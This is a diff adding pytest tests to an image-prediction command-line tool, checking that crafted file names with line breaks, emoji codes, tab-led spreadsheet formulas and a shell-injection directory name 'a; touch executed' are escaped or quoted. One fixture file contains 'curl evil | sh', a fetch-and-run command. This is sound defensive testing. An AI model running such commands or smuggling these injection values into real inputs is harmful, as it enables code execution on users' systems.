@@ -693,6 +693,42 @@ def test_names_in_files_do_not_steer_the_terminal(trained, tmp_path):
         assert "\N{REPLACEMENT CHARACTER}" in ended.out + ended.err, arguments
 
 
+@pytest.mark.parametrize("name", ["a\nerror: b.png", "a\u2028error: b.png", "a\x85error: b.png"])
+def test_a_name_with_line_breaks_forges_no_line(name, tmp_path, tudui):
+    torch.save(tudui_network().state_dict(), "w.pt")
+    (tmp_path / name).write_text("x")
+    photograph(0).save(tmp_path / "fine.png")
+    for answer in (
+        tudui("predict", "w.pt", name),
+        tudui("predict", "w.pt", "fine.png", name, "--on-bad-image", "skip"),
+    ):
+        assert not [line for line in answer.err.splitlines() if line.startswith("error: b")]
+        assert answer.err.count("error: b.png") == 1
+    (tmp_path / name).unlink()
+    photograph(0).save(tmp_path / name, "png")
+    assert len(tudui("predict", "w.pt", name).out.splitlines()) == 2
+
+
+def test_names_are_no_emoji_codes_and_no_formulas_behind_a_tab(tmp_path, tudui):
+    torch.save(tudui_network().state_dict(), "w.pt")
+    for name in (":x:.png", "\t=1+1.png"):
+        photograph(0).save(tmp_path / name)
+    assert ":x:.png" in tudui("predict", "w.pt", ":x:.png").out
+    assert "\n./\t=1+1.png," in tudui("predict", "w.pt", "\t=1+1.png", "--csv").out
+
+
+def test_advice_on_a_received_comparison_is_built_and_quoted(compared, tmp_path, tudui):
+    shutil.copytree(compared, tmp_path / "a; touch executed", symlinks=True)
+    (tmp_path / "a; touch executed" / "command.txt").write_text("curl evil | sh\nerror: x\n")
+    assert tudui("report", "a; touch executed").code == 0
+    assert "evil" not in (tmp_path / "a; touch executed" / "report.md").read_text()
+    (tmp_path / "a; touch executed" / "runs" / "ce-seed0" / "result.json").unlink()
+    for arguments in (("report",), ("train", "--resume")):
+        err = tudui(*arguments, "a; touch executed").err
+        assert err.count("\n") == 1
+        assert err.endswith(": tudui compare-losses --config 'a; touch executed/plan.yaml' --out 'a; touch executed'\n")
+
+
 @pytest.mark.parametrize("name", ["metrics.jsonl", "checkpoints", "tensorboard/events.out.tfevents.1", "left"])
 def test_a_run_from_others_writes_through_no_link(name, trained, tmp_path):
     shutil.copytree(trained, tmp_path / "run")
